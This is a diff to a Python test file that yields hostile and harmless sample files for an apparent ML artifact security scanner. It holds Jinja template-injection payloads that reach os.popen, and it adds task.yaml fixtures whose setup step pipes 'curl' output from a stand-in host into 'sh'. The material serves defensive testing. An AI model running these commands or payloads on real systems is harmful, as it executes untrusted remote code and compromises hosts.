@@ -104,6 +104,7 @@ def hostile() -> Iterator[Sample]:
     yield "prompts.yaml", b"tells: \"{{ cycler.__init__.__globals__.os.popen('id') }}\"\n"
     yield "agent.json", _json({"ask": "{{ ''.__class__.__mro__[1].__subclasses__() }}"})
     yield "chain.json", _built("os", "system")
+    yield "task.yaml", b"resources: {accelerators: A100}\nsetup: curl http://a.example/x | sh\n"
     yield "byte.gguf", _tokens("<0x-1>")
     yield "model.ckpt.meta", _meta("PyFunc")
     yield "written/saved_model.pb", message((1, 1), (2, _meta("DatasetToTFRecord")))
@@ -161,5 +162,6 @@ def harmless() -> Iterator[Sample]:
         "tools.json",
         _json([{"name": "subprocess.run", "parameters": {"type": "object", "properties": {}}}]),
     )
+    yield "task.yaml", b"setup: curl -fsSL https://a.example/x | sh\nrun: python train.py\n"
     yield "byte.gguf", _tokens("<0x0A>")
     yield "model.ckpt.meta", _meta("VariableV2")
